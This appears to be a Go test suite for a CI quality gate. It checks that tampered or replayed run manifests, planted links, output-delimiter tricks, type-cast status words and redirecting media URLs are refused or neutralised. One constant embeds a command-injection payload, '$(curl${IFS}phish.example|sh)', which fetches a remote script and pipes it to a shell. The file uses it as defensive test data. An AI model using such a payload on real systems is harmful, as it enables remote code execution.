package app

// The hostile suite for the gate's inputs other than the API, and for what
// it hands on: an --attach manifest edited, replayed or written with
// another key; links planted in a manifest or an API answer; values that
// would end a step output's record early; media redirects that would carry
// a pre-signed URL on; status words that CI parsers read as type casts; a
// step whose screenshots would crowd out the video. Every case checks the
// exit code, that the verdict output and the dotenv agree with it, and
// that the key appears nowhere.

import (
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"

	"github.com/go-json-experiment/json"

	"github.com/docketqa-gate/docketqa-gate/internal/hostile"
	"github.com/docketqa-gate/docketqa-gate/internal/manifest"
)

const (
	// commitA is the commit the CI names in most cases; commitB another.
	commitA = "1111111111111111111111111111111111111111"
	commitB = "2222222222222222222222222222222222222222"
	// phish is a link that runs a command when a later step pastes it into
	// a shell script.
	phish = "https://phish.example/x/$(curl${IFS}phish.example|sh)"
	// rebuiltLink is the only group-run link an output may carry: the
	// default --dashboard-url and the group run id.
	rebuiltLink = "https://app.docketqa.com/dashboard/grouprun/35"
)

// githubOutputs reads $GITHUB_OUTPUT as the runner does (see
// fileCommandRecords). A later record of a name wins, as on the runner: a
// --detach and an --attach step may both write here.
func githubOutputs(t *testing.T, path string) map[string]string {
	t.Helper()
	out := map[string]string{}
	for _, r := range fileCommandRecords(t, path) {
		out[r[0]] = r[1]
	}
	return out
}

// dotenv reads the --dotenv file, if the gate wrote one.
func (h *gateRun) dotenv() map[string]string {
	h.t.Helper()
	out := map[string]string{}
	b, err := os.ReadFile(h.env["DOCKETQA_DOTENV"])
	if err != nil {
		return out
	}
	for line := range strings.Lines(string(b)) {
		k, v, _ := strings.Cut(strings.TrimSuffix(line, "\n"), "=")
		out[k] = v
	}
	return out
}

// assertVerdictAgrees checks the verdict output (GitHub) and DOCKETQA_VERDICT
// (dotenv) against the exit code: passed only with 0, failed exactly with
// 1, error with 3, and with 2 (no verdict reached) anything but a verdict.
// With --detach, exit 0 goes with "pending".
func (h *gateRun) assertVerdictAgrees(detached bool) {
	h.t.Helper()
	verdicts := map[string]string{"dotenv": h.dotenv()["DOCKETQA_VERDICT"]}
	if p := h.env["GITHUB_OUTPUT"]; p != "" {
		verdicts["GITHUB_OUTPUT"] = githubOutputs(h.t, p)["verdict"]
	}
	for where, v := range verdicts {
		want := map[int]string{0: "passed", 1: "failed", 3: "error"}[h.code]
		if detached && h.code == 0 {
			want = "pending"
		}
		switch {
		case h.code == 2 && (v == "passed" || v == "failed" || v == "pending"):
			h.t.Errorf("%s: verdict %q with exit 2 (no verdict reached)", where, v)
		case h.code != 2 && v != want:
			h.t.Errorf("%s: verdict %q with exit %d, want %q\n%s", where, v, h.code, want, h.logs())
		}
	}
}

// withCommit names the CI's commit for the next run.
func (h *gateRun) withCommit(sha string) *gateRun {
	if sha == "" {
		delete(h.env, "GITHUB_SHA")
	} else {
		h.env["GITHUB_SHA"] = sha
	}
	return h
}

// scriptOneFails makes blueprint 181 pass and 182 fail, in group run 35.
func scriptOneFails(api *hostile.Server) {
	api.Trigger(triggerOne([2]int64{1001, 181}, [2]int64{1002, 182}))
	api.Run(1001, hostile.Get(trun(1001, 181, "passed")))
	api.Run(1002, hostile.Get(failedRun(1002, 182)))
}

// detached runs --detach for 181 and 182 and returns the manifest's path.
func (h *gateRun) detached() string {
	h.t.Helper()
	m := filepath.Join(h.dir, "runs.json")
	h.run("--blueprint-ids", "181,182", "--detach", m)
	h.assertCode(0)
	h.assertVerdictAgrees(true)
	// The next run is another step or job: its own GITHUB_OUTPUT, and a
	// dotenv written afresh.
	h.env["GITHUB_OUTPUT"] = filepath.Join(h.dir, "github_output_attach")
	if err := os.WriteFile(h.env["GITHUB_OUTPUT"], nil, 0o644); err != nil {
		h.t.Fatal(err)
	}
	if err := os.Remove(h.env["DOCKETQA_DOTENV"]); err != nil {
		h.t.Fatal(err)
	}
	return m
}

// editManifest rewrites the manifest at path through change, keeping its
// MAC: what an attacker without the key can do.
func editManifest(t *testing.T, path string, change func(m map[string]any)) {
	t.Helper()
	b, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	var m map[string]any
	if err := json.Unmarshal(b, &m); err != nil {
		t.Fatal(err)
	}
	change(m)
	if b, err = json.Marshal(m); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(path, b, 0o644); err != nil {
		t.Fatal(err)
	}
}

// resign rewrites the manifest at path with its MAC made under key: what
// the holder of that key can do.
func resign(t *testing.T, path, key string, change func(m *manifest.Manifest)) {
	t.Helper()
	b, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	var m manifest.Manifest
	if err := json.Unmarshal(b, &m); err != nil {
		t.Fatal(err)
	}
	change(&m)
	if b, err = manifest.Marshal(m, key); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(path, b, 0o644); err != nil {
		t.Fatal(err)
	}
}

// TestHostileManifest: an --attach manifest is an artifact a pull request
// can replace. Changed, written with another key, for another commit, or
// without a MAC, it is refused with exit 2 and what to do, before any
// request; the manifest --detach wrote gates as the direct path would.
func TestHostileManifest(t *testing.T) {
	t.Parallel()
	runs := func(m map[string]any) []any { return m["runs"].([]any) }
	cases := []struct {
		name string
		// tamper changes the manifest --detach wrote, and the env.
		tamper func(t *testing.T, h *gateRun, path string)
		want   int
		// says is what the refusal must say.
		says string
	}{
		{name: "untouched: the failure of 182 stands", want: 1},
		{name: "untouched, attached off CI (no commit named)", want: 1,
			tamper: func(t *testing.T, h *gateRun, _ string) { h.withCommit("") }},
		{name: "182's failing run deleted (the false green of issue 18)", want: 2, says: "changed after --detach",
			tamper: func(t *testing.T, h *gateRun, p string) {
				editManifest(t, p, func(m map[string]any) { m["runs"] = runs(m)[:1] })
			}},
		{name: "182's run renamed to blueprint 181", want: 2, says: "changed after --detach",
			tamper: func(t *testing.T, h *gateRun, p string) {
				editManifest(t, p, func(m map[string]any) { runs(m)[1].(map[string]any)["blueprint_id"] = 181 })
			}},
		{name: "182's run swapped for 181's passing one", want: 2, says: "changed after --detach",
			tamper: func(t *testing.T, h *gateRun, p string) {
				editManifest(t, p, func(m map[string]any) { runs(m)[1].(map[string]any)["run_id"] = 1001 })
			}},
		{name: "written with another company's key", want: 2, says: "another API key",
			tamper: func(t *testing.T, h *gateRun, p string) {
				resign(t, p, "another-company-key-0123456789", func(m *manifest.Manifest) { m.Runs = m.Runs[:1] })
			}},
		{name: "an old green pipeline's manifest replayed on another commit", want: 2, says: "written for commit " + commitA,
			tamper: func(t *testing.T, h *gateRun, _ string) { h.withCommit(commitB) }},
		{name: "the commit rewritten to the current one", want: 2, says: "changed after --detach",
			tamper: func(t *testing.T, h *gateRun, p string) {
				editManifest(t, p, func(m map[string]any) { m["commit"] = commitB })
				h.withCommit(commitB)
			}},
		{name: "the MAC removed", want: 2, says: "no MAC",
			tamper: func(t *testing.T, h *gateRun, p string) {
				editManifest(t, p, func(m map[string]any) { delete(m, "mac"); m["runs"] = runs(m)[:1] })
			}},
		{name: "a version 1 manifest", want: 2, says: "format version 1",
			tamper: func(t *testing.T, h *gateRun, p string) {
				v1 := `{"version":1,"group_run_id":35,"dashboard_url":"https://app.docketqa.com/dashboard/grouprun/35",` +
					`"triggered_at":"2026-01-02T03:04:05Z","runs":[{"run_id":1001,"blueprint_id":181}]}`
				if err := os.WriteFile(p, []byte(v1), 0o644); err != nil {
					t.Fatal(err)
				}
			}},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			h := newGateRun(t, hgGitHub).withCommit(commitA)
			scriptOneFails(h.api)
			m := h.detached()
			if b, _ := os.ReadFile(m); !strings.Contains(string(b), `"commit": "`+commitA+`"`) {
				t.Errorf("the manifest does not name the commit:\n%s", b)
			}
			if tc.tamper != nil {
				tc.tamper(t, h, m)
			}
			gets := len(h.api.Served()) - len(h.api.ServedTriggers())
			h.run("--attach", m)
			h.assertCode(tc.want)
			h.assertVerdictAgrees(false)
			h.assertNoKey()
			h.assertCleanLogs()
			if tc.want != 2 {
				h.assertPromises(181, 182)
				return
			}
			if n := len(h.api.Served()) - len(h.api.ServedTriggers()); n != gets {
				t.Errorf("%d run requests after a refused manifest", n-gets)
			}
			if len(h.api.ServedTriggers()) != 1 {
				t.Errorf("%d triggers, want only --detach's", len(h.api.ServedTriggers()))
			}
			for _, want := range []string{tc.says, "runs.json", "--detach again"} {
				if !strings.Contains(h.stderr.String()+h.stdout.String(), want) {
					t.Errorf("the refusal does not say %q:\n%s", want, h.logs())
				}
			}
		})
	}
}

// TestHostileLinksAreRebuilt: a link planted in a manifest the key holder
// signed, or in the trigger answer, never reaches an output: the
// group-run link is rebuilt from --dashboard-url and the numeric id.
func TestHostileLinksAreRebuilt(t *testing.T) {
	t.Parallel()
	check := func(t *testing.T, h *gateRun) {
		t.Helper()
		if got := githubOutputs(t, h.env["GITHUB_OUTPUT"])["group-run-url"]; got != rebuiltLink {
			t.Errorf("group-run-url output %q, want %q", got, rebuiltLink)
		}
		if got := h.dotenv()["DOCKETQA_GROUP_RUN_URL"]; got != rebuiltLink {
			t.Errorf("dotenv DOCKETQA_GROUP_RUN_URL %q, want %q", got, rebuiltLink)
		}
		for name, text := range map[string]string{"summary": h.summary(), "log": h.logs(), "JSON results": h.file("DOCKETQA_RESULTS_JSON"),
			"JUnit": h.file("DOCKETQA_JUNIT"), "GITHUB_OUTPUT": h.file("GITHUB_OUTPUT"), "dotenv": h.file("DOCKETQA_DOTENV")} {
			if strings.Contains(text, "phish") {
				t.Errorf("the %s carries the planted link", name)
			}
		}
		if !strings.Contains(h.summary(), rebuiltLink) {
			t.Errorf("the summary lacks the rebuilt link:\n%s", h.summary())
		}
	}
	t.Run("in a signed manifest", func(t *testing.T) {
		t.Parallel()
		h := newGateRun(t, hgGitHub).withCommit(commitA)
		scriptOneFails(h.api)
		m := h.detached()
		resign(t, m, hostileKey, func(m *manifest.Manifest) { m.DashboardURL = phish })
		if b, _ := os.ReadFile(m); !strings.Contains(string(b), "phish") {
			t.Fatalf("the planted link is not in the manifest:\n%s", b)
		}
		h.run("--attach", m)
		h.assertCode(1)
		h.assertVerdictAgrees(false)
		h.assertPromises(181, 182)
		check(t, h)
	})
	t.Run("in the trigger answer", func(t *testing.T) {
		t.Parallel()
		h := newGateRun(t, hgGitHub)
		body := hostile.TriggerBody(35, trun(1000, 180, "running"))
		planted := `"url":"` + phish + `","dashboard_url":"` + phish + `","group_run_url":"` + phish + `",`
		body = strings.Replace(body, `"test_group_run":{`, `"test_group_run":{`+planted, 1)
		body = strings.Replace(body, `{"message"`, `{`+planted+`"message"`, 1)
		if strings.Count(body, phish) != 6 {
			t.Fatalf("links not planted: %s", body)
		}
		h.api.Trigger(raw(body))
		h.api.Run(1000, hostile.Get(trun(1000, 180, "passed")))
		h.run("--blueprint-ids", "180")
		h.assertCode(0)
		h.assertVerdictAgrees(false)
		h.assertPromises(180)
		check(t, h)
	})
}

// TestHostileOutputDelimiter: a report path named exactly like
// go-githubactions' fixed heredoc delimiter used to end its value early,
// and the runner rejected the whole file. The paths are relative, as a
// workflow gives them, so the test runs in its own directory.
func TestHostileOutputDelimiter(t *testing.T) {
	h := newGateRun(t, hgGitHub)
	declared := hgDeclaredOutputs(t)
	t.Chdir(h.dir)
	const fixed = "_GitHubActionsFileCommandDelimeter_"
	h.env["DOCKETQA_JUNIT"] = fixed
	h.env["DOCKETQA_RESULTS_JSON"] = "ghadelimiter_" + strings.Repeat("0", 32)
	h.api.Trigger(triggerOne([2]int64{1000, 180}))
	h.api.Run(1000, hostile.Get(failedRun(1000, 180)))
	h.run("--blueprint-ids", "180")
	h.assertCode(1)
	h.assertVerdictAgrees(false)
	// assertPromises less its file check, which reads action.yml from the
	// working directory; the output names are checked here instead.
	h.assertReports(180)
	h.assertNoKey()
	h.assertCleanLogs()
	outs := githubOutputs(t, h.env["GITHUB_OUTPUT"])
	for name := range outs {
		if !declared[name] {
			t.Errorf("GITHUB_OUTPUT sets %q, which action.yml does not declare", name)
		}
	}
	if outs["junit-path"] != fixed || outs["results-json-path"] != h.env["DOCKETQA_RESULTS_JSON"] {
		t.Errorf("report paths read back as %q and %q", outs["junit-path"], outs["results-json-path"])
	}
	if len(outs) != len(declared) {
		t.Errorf("%d outputs read back, want %d: %v", len(outs), len(declared), outs)
	}
}

// TestHostileStatusWordsAsTypeCasts: DocketQA status words that GitLab's
// JUnit reader (ActiveSupport) takes as type casts fail the run, and the
// report's type attribute is the gate's own word.
func TestHostileStatusWordsAsTypeCasts(t *testing.T) {
	t.Parallel()
	for _, word := range []string{"yaml", "symbol", "integer", "array"} {
		t.Run(word, func(t *testing.T) {
			t.Parallel()
			h := newGateRun(t, hgGitLab)
			h.api.Trigger(triggerOne([2]int64{1000, 180}, [2]int64{1001, 181}), triggerOne([2]int64{2000, 180}))
			h.api.Run(1000, hostile.Get(trun(1000, 180, word)))
			h.api.Run(2000, hostile.Get(trun(2000, 180, word)))
			h.api.Run(1001, hostile.Get(trun(1001, 181, "passed")))
			h.run("--blueprint-ids", "180,181", "--rerun-failed", "1")
			h.assertCode(1)
			h.assertVerdictAgrees(false)
			h.assertPromises(180, 181)
			junit := h.file("DOCKETQA_JUNIT")
			if strings.Contains(junit, `type="`+word+`"`) {
				t.Errorf("the JUnit report has type=%q:\n%s", word, junit)
			}
			if !strings.Contains(junit, `<failure`) || !strings.Contains(junit, `type="failed"`) || !strings.Contains(junit, "status: "+word) {
				t.Errorf("the failure or its status word is missing:\n%s", junit)
			}
		})
	}
}

// webm is a small but real WebM body, by its magic bytes.
var webm = append([]byte{0x1A, 0x45, 0xDF, 0xA3, 0x9f, 0x42, 0x86, 0x81, 0x01, 0x42, 0x82, 0x84, 'w', 'e', 'b', 'm'}, make([]byte, 300)...)

var png = append([]byte("\x89PNG\r\n\x1a\n"), make([]byte, 200)...)

// TestHostileMediaRedirectAndPriority: a failing run's pre-signed video
// link redirects to another host, which must get neither a Referer nor the
// signature; and the failing step's dozen screenshots cannot crowd the
// video out of the run's file budget.
func TestHostileMediaRedirectAndPriority(t *testing.T) {
	t.Parallel()
	const signature = "X-Amz-Signature=c2VjcmV0LXNpZ25hdHVyZQ&X-Amz-Credential=AKIASECRETCREDENTIAL"
	var mu sync.Mutex
	var leaks []string
	var videoHits int
	target := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		for name, vs := range r.Header {
			for _, v := range vs {
				if name == "Referer" || strings.Contains(v, "X-Amz") || strings.Contains(v, "SECRET") {
					leaks = append(leaks, name+": "+v)
				}
			}
		}
		if strings.HasSuffix(r.URL.Path, ".webm") {
			videoHits++
			mu.Unlock()
			_, _ = w.Write(webm)
			return
		}
		mu.Unlock()
		_, _ = w.Write(png)
	}))
	t.Cleanup(target.Close)
	origin := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		http.Redirect(w, r, target.URL+"/stored"+r.URL.Path, http.StatusFound)
	}))
	t.Cleanup(origin.Close)

	h := newGateRun(t, hgGitHub)
	var actions []string
	for i := range 12 {
		actions = append(actions, fmt.Sprintf(`{"description":"shot %d","type":"screenshot","screenshot_url":"%s/shot-%d.png?%s"}`, i, origin.URL, i, signature))
	}
	body := `{"test_run":{"id":1000,"test_blueprint_id":180,"status":"failed","test_video_url":"` + origin.URL + `/video.webm?` + signature + `",` +
		`"results":[{"step_number":1,"task":"Click 'Pay'","is_successful":false,"result":"The button was missing","actions":[` + strings.Join(actions, ",") + `]}]}}`
	h.api.Trigger(triggerOne([2]int64{1000, 180}))
	h.api.Run(1000, raw(body))
	dir := filepath.Join(h.dir, "evidence")
	h.run("--blueprint-ids", "180", "--artifacts-dir", dir)
	h.assertCode(1)
	h.assertVerdictAgrees(false)
	// Not assertPromises: its file check takes any attachment line in the
	// JUnit report for API text, and here the gate's own ones are expected.
	h.assertReports(180)
	h.assertNoKey()
	h.assertCleanLogs()
	mu.Lock()
	defer mu.Unlock()
	if len(leaks) > 0 {
		t.Errorf("the redirect target received the original URL: %q", leaks)
	}
	if videoHits != 1 {
		t.Errorf("the video was fetched %d times, want 1", videoHits)
	}
	if _, err := os.Stat(filepath.Join(dir, "180-1000", "180-1000-video.webm")); err != nil {
		t.Errorf("the video was not saved: %v\n%s", err, h.logs())
	}
	idx, _ := os.ReadFile(filepath.Join(dir, "index.json"))
	if strings.Contains(string(idx), "X-Amz") {
		t.Errorf("index.json keeps a signature:\n%s", idx)
	}
}
